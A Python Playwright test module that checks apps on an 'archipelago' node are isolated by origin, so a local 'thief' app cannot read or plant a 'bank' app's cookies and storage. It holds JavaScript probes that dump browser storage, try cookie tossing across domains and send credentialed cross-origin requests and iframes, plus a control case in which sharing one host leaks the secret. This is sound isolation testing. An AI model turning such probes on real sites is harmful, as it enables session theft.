"""Apps that the owner opens in one browser: each is an origin of its own, whatever another one tries.

Both apps record every byte that they are sent. The owner opens them by the links of the node's page. What one of them
keeps in the browser, and what the page keeps there, never reaches the other.
"""

import asyncio
import contextlib
import json
import os
from collections.abc import AsyncIterator
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import urlsplit

import aiohttp
import pytest
import pytest_asyncio
from playwright.async_api import Browser, BrowserContext, Error, Page, expect

from archipelago.config import DEFAULT_UI
from support.chromium import chromium
from support.harness import APPS_AT, TestNode, free_port, remove_leftovers, running_node
from support.owner import enter
from support.tiny_apps import PATIENT, write_app

pytestmark = [pytest.mark.asyncio(loop_scope="module"), pytest.mark.timeout(400)]
expect.set_options(timeout=60_000)

HERE = Path(__file__).parent
HOSTS = ("127.0.0.1", "localhost")
SECRET = "what-the-bank-knows-its-customer-by"
KEEP = """(secret) => {
  document.cookie = `session=${secret}; path=/; max-age=9999`;
  document.cookie = `strict=${secret}; path=/; samesite=strict`;
  document.cookie = `secure=${secret}; path=/; secure; samesite=none`;
  localStorage.setItem("session", secret);
  sessionStorage.setItem("session", secret);
  return document.cookie;
}"""
READ = """async () => JSON.stringify([document.cookie, {...localStorage}, {...sessionStorage}, document.referrer,
  window.name, await (indexedDB.databases?.() ?? []), await caches.keys()])"""
TOSS = """() => {
  for (const domain of ["localhost", ".localhost", "bank.localhost", "127.0.0.1", "local"])
    document.cookie = `session=tossed; path=/; domain=${domain}`;
  return document.cookie;
}"""
EMPTY = ["", {}, {}, "", "", [], []]


@dataclass(frozen=True)
class Scene:
    """A node with a thief and a bank."""

    node: TestNode
    ports: dict[str, int]
    """Bare ports of loopback."""

    async def seen(self, app: str) -> str:
        """Return everything that an app was sent since this was asked last."""
        url = f"http://{APPS_AT}:{self.ports[app]}/seen"
        async with aiohttp.ClientSession() as session, session.get(url) as answer:
            return await answer.text(errors="replace")


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def scene(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Scene]:
    """A node whose owner has installed both."""
    remove_leftovers()
    catalog, ports = tmp_path_factory.mktemp("catalog"), {app: free_port() for app in ("thief", "bank")}
    for app, port in ports.items():
        write_app(
            catalog,
            app,
            command=json.dumps(["env", "perl", "-e", (HERE / "thief.pl").read_text()]),
            health=f"{PATIENT}\n    tmpfs: [{{path: /tmp}}]",
            packages="busybox-static, perl-base",
            more="endpoints:\n  page: {kind: ui, protocol: http, login: own, container: main, port: 8000, "
            f"host_port: {port}}}\n",
        )
    ui = os.environ.get("ARCHIPELAGO_UI", DEFAULT_UI)
    async with running_node("origins", apps=catalog, environment={"ARCHIPELAGO_UI": ui}) as node:
        for app in ports:
            await node.install(app)
            await node.until(app, "healthy")
        yield Scene(node, ports)


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def browser() -> AsyncIterator[Browser]:
    """The distribution's Chromium."""
    async with chromium() as launched:
        yield launched


async def opened(tab: Page, app: str) -> Page:
    """Open an app by the link of the node's page."""
    await tab.goto("/apps")
    async with tab.expect_popup() as opening:
        await tab.get_by_role("link", name=f"Open {app}").click()
    page = await opening.value
    await expect(page).to_have_title("thief")  # both are the same program
    return page


async def owner_at(browser: Browser, scene: Scene, host: str) -> tuple[BrowserContext, Page]:
    context = await browser.new_context(base_url=f"http://{host}:{scene.node.port}", locale="en-GB")
    context.set_default_timeout(60_000)
    tab = await context.new_page()
    await enter(tab, scene.node)
    return context, tab


@pytest.mark.parametrize("host", HOSTS)
async def test_what_one_app_keeps_in_the_browser_no_other_one_sees(browser: Browser, scene: Scene, host: str) -> None:
    context, tab = await owner_at(browser, scene, host)
    bank = await opened(tab, "bank")
    assert urlsplit(bank.url).hostname == "bank.localhost", "not the host of the node's page"
    assert (await bank.evaluate(KEEP, SECRET)).count(SECRET) == 3, (
        "its own browser storage works, by every kind of cookie"
    )
    assert (await bank.reload()).ok
    assert SECRET in await scene.seen("bank"), "and it is sent what it keeps"

    thief = await opened(tab, "thief")
    assert json.loads(await thief.evaluate(READ)) == EMPTY
    await thief.evaluate(TOSS)
    for way in (bank.url, f"http://{host}:{scene.node.port}/"):
        await thief.evaluate("(url) => fetch(url, { mode: 'no-cors', credentials: 'include' }).catch(() => null)", way)
        frame = "(url) => void document.body.append(Object.assign(document.createElement('iframe'), { src: url }))"
        await thief.evaluate(frame, way)
    await thief.reload()
    assert SECRET not in await scene.seen("thief")
    assert SECRET not in await thief.evaluate(READ)
    assert "tossed" not in await bank.evaluate("document.cookie"), "nothing is planted in another app either"
    await context.close()


async def test_without_names_the_thief_is_sent_everything(browser: Browser, scene: Scene) -> None:
    """The control: at bare ports of one host, as links led to them before, the same thief needs no trick at all."""
    context = await browser.new_context()
    page = await context.new_page()
    await page.goto(f"http://{APPS_AT}:{scene.ports['bank']}/")
    await page.evaluate(KEEP, SECRET)
    await scene.seen("thief")
    await page.goto(f"http://{APPS_AT}:{scene.ports['thief']}/")
    assert SECRET in await page.evaluate("document.cookie") and SECRET in await scene.seen("thief")
    await context.close()


async def test_no_name_of_another_app_leads_to_a_port_of_the_thief(browser: Browser, scene: Scene) -> None:
    """Cookies know hosts and not ports: a thief that listened where the names of apps lead would be sent them all."""
    context, tab = await owner_at(browser, scene, HOSTS[0])
    bank = await opened(tab, "bank")
    await bank.evaluate(KEEP, SECRET)
    thief = await opened(tab, "thief")
    await scene.seen("thief")
    for host in ("bank.localhost", "localhost", "127.0.0.1", "[::1]", APPS_AT):
        trap = f"http://{host}:{scene.ports['thief']}/trap"
        await thief.evaluate("(url) => fetch(url, { mode: 'no-cors', credentials: 'include' }).catch(() => null)", trap)
        page = await context.new_page()
        with contextlib.suppress(Error):
            await page.goto(trap)
        await page.close()
        seen = await scene.seen("thief")
        assert ("GET /trap " in seen) == (host == APPS_AT), "programs find it where no name leads"
        assert SECRET not in seen, host
    await context.close()


async def test_links_of_the_page_and_of_the_command_lead_to_names(browser: Browser, scene: Scene) -> None:
    context, tab = await owner_at(browser, scene, HOSTS[0])
    await tab.goto("/apps/thief/access")
    site = f"http://thief.localhost:{scene.node.http_port}/"
    await expect(tab.get_by_text(site, exact=True)).to_be_visible()
    links = await tab.eval_on_selector_all("a[href^='http']", "found => found.map((each) => each.href)")
    assert site in links and not [link for link in links if str(scene.ports["thief"]) in link]
    (status,) = [each for each in await scene.node.call("container-list") if each["app"] == "thief"]
    assert status["endpoints"][0]["site"] == site
    await context.close()


async def test_sites_outlive_the_daemon_and_go_when_their_app_stops(scene: Scene) -> None:
    async def answers() -> int:
        url, headers = f"http://127.0.0.1:{scene.node.http_port}/", {"Host": "bank.localhost"}
        async with aiohttp.ClientSession() as session, session.get(url, headers=headers) as answer:
            return answer.status

    async def until_answers(status: int) -> None:
        async with asyncio.timeout(60):
            while await answers() != status:
                await asyncio.sleep(0.05)  # sites follow their apps in the node's own time, and tell nobody

    assert await answers() == 200
    scene.node.kill()
    assert await answers() == 200, "without a daemon"
    await scene.node.start()
    await scene.node.until("bank", "healthy")
    assert await answers() == 200
    await scene.node.done(await scene.node.call("container-stop", app="bank"))
    await until_answers(404)
    await scene.node.done(await scene.node.call("container-start", app="bank"))
    await until_answers(200)
